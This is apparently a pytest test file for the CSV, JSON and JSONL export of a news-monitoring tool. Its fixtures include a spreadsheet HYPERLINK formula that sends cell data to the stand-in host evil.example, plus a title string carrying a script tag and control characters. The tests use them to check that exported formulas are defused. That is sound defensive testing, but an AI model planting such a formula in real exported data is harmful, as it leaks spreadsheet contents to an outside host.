"""Export: what a spreadsheet or a script reads back is what the store holds, hostile text too."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from factories import save as _save

from monitor.core.models import Evidence
from monitor.outputs.export import COLUMNS, export_rows, write_export
from monitor.shell.store import Database, open_db, queries

NOW = dt.datetime(2026, 11, 28, 9, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
HOSTILE = 'Talks, "quotes",\nline two\r\nthree <script>alert(1)</script> ]]> \x07\x1b end'


@pytest.fixture
def store(tmp_path: Path) -> Database:
    store = open_db(tmp_path / "monitor.db")
    mou = Evidence(
        "agreement",
        "memorandum",
        "KazISS signed a memorandum of understanding with ISIS Malaysia.",
        14,
        24,
        rule="agreement:memorandum",
    )
    my = Evidence("country", "Malaysia", mou.snippet, 57, 65, country="MY", rule="name")
    _save(
        store,
        "https://kisi.kz/en/news/kaziss-isis-memorandum",
        'KazISS and ISIS Malaysia sign a memorandum; research, "joint" plans',
        dt.date(2026, 11, 27),
        evidence=(mou, my),
        aliases=("https://kisi.kz/en/news/kaziss-isis-memorandum?amp=1",),
    )
    ru = Evidence(
        "agreement",
        "меморандум",
        "КИСИ и ISIS Малайзии подписали меморандум о взаимопонимании.",
        31,
        41,
        rule="agreement:memorandum",
    )
    _save(
        store,
        "https://kisi.kz/ru/news/memorandum-isis",
        "КИСИ и ISIS Малайзии подписали меморандум",
        dt.datetime(2026, 11, 27, 15, 30, tzinfo=dt.timezone(dt.timedelta(hours=5))),
        source="kisi-ru",
        language="ru",
        evidence=(ru, Evidence("demonym", "малайзийский", "малайзийский институт", 0, 12, "MY")),
        story="s1",
    )
    _save(store, "https://isis.org.my/2026/11/20/hostile/", HOSTILE, dt.date(2026, 11, 20))
    _save(store, "https://isis.org.my/2026/11/10/formula/", FORMULA, None, language=None)
    _save(store, "https://isis.org.my/2026/09/01/old/", "An old note", dt.date(2026, 9, 1))
    return store


def _csv(store: Database, **kw: object) -> tuple[str, int]:
    out = io.StringIO(newline="")
    n = write_export(store, out, "csv", **kw)  # type: ignore[arg-type]
    return out.getvalue(), n


def _unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def test_csv_round_trips_through_dictreader(store: Database, tmp_path: Path) -> None:
    path = tmp_path / "articles.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        n = write_export(store, out, "csv")
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == COLUMNS
        got = list(reader)
    expected = queries.fetch_articles(store)
    assert n == len(got) == len(expected) == 5
    for row, want in zip(got, expected, strict=True):
        assert _unescape(row["title"]) == want["title"]
        assert row["url"] == want["url"] and row["source"] == want["source"]
        assert (row["published"] or None) == want["published"]
        assert (row["language"] or None) == want["language"]
        assert row["story"] == want["story"]
        assert row["agreement"] == ("true" if want["agreement"] else "false")
        assert row["flagged"] == ("true" if want["flagged"] else "false")
        assert [c for c in row["countries"].split(";") if c] == want["countries"]
        assert [c for c in row["weak_countries"].split(";") if c] == want["weak_countries"]
        assert row["first_seen"] == want["first_seen"]
        assert json.loads(row["aliases"]) == want["aliases"]
        assert json.loads(row["evidence"]) == want["evidence"]
    by_url = {r["url"]: r for r in got}
    assert by_url["https://isis.org.my/2026/11/20/hostile/"]["title"] == HOSTILE
    ru = by_url["https://kisi.kz/ru/news/memorandum-isis"]
    assert ru["title"] == "КИСИ и ISIS Малайзии подписали меморандум"
    assert ru["weak_countries"] == "MY" and ru["story"] == "s1"
    mou = by_url["https://kisi.kz/en/news/kaziss-isis-memorandum"]
    assert mou["countries"] == "MY" and mou["agreement"] == "true"
    assert json.loads(mou["evidence"])[0]["matched"] == "memorandum"


def test_csv_defuses_formulas(store: Database) -> None:
    text, _ = _csv(store)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    (row,) = [r for r in rows if r["url"].endswith("/formula/")]
    assert row["title"] == "'" + FORMULA
    # No cell of the file starts a formula.
    cells = [c for r in csv.reader(io.StringIO(text, newline="")) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_json_and_jsonl_hold_the_stored_values(store: Database) -> None:
    expected = [{k: a[k] for k in COLUMNS} for a in queries.fetch_articles(store)]
    out = io.StringIO()
    assert write_export(store, out, "json") == 5
    data = json.loads(out.getvalue())
    assert data == expected
    assert [list(d) for d in data] == [list(COLUMNS)] * 5
    assert any(d["title"] == FORMULA for d in data)  # CSV-only escaping

    out = io.StringIO()
    assert write_export(store, out, "jsonl") == 5
    lines = out.getvalue().splitlines()  # splits on U+2028 and \x85 too: none may be raw
    assert [json.loads(line) for line in lines] == expected


def test_jsonl_keeps_one_record_per_line_with_unicode_line_breaks(tmp_path: Path) -> None:
    store = open_db(tmp_path / "m.db")
    title = "Line\u2028separator\x85next\u2029para"
    _save(store, "https://kisi.kz/en/a", title, dt.date(2026, 11, 1))
    out = io.StringIO()
    write_export(store, out, "jsonl")
    (line,) = out.getvalue().splitlines()
    assert json.loads(line)["title"] == title


def test_newest_first_and_filters(store: Database) -> None:
    urls = [r["url"] for r in export_rows(store)]
    assert urls == [a["url"] for a in queries.fetch_articles(store)]
    assert urls[-1] == "https://isis.org.my/2026/09/01/old/"
    published = [r["published"][:10] for r in export_rows(store) if r["published"]]
    assert published == sorted(published, reverse=True)

    text, n = _csv(store, flagged=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert n == 2 and {r["flagged"] for r in rows} == {"true"}

    since = [r["url"] for r in export_rows(store, since=dt.date(2026, 11, 15))]
    assert "https://isis.org.my/2026/09/01/old/" not in since
    # No publication date: it counts from when it was found (NOW).
    assert "https://isis.org.my/2026/11/10/formula/" in since
    assert len(since) == 4

    out = io.StringIO()
    assert write_export(store, out, "jsonl", flagged=True, since=dt.date(2026, 12, 1)) == 0
    assert out.getvalue() == ""


def test_empty_store_writes_a_header_and_an_empty_array(tmp_path: Path) -> None:
    store = open_db(tmp_path / "m.db")
    text, n = _csv(store)
    assert n == 0 and text == ",".join(COLUMNS) + "\r\n"
    out = io.StringIO()
    write_export(store, out, "json")
    assert json.loads(out.getvalue()) == []


def test_unknown_format_is_one_clear_error(store: Database) -> None:
    with pytest.raises(ValueError, match=r"unknown format 'xlsx' \(choose one of csv, json, jsonl"):
        write_export(store, io.StringIO(), "xlsx")
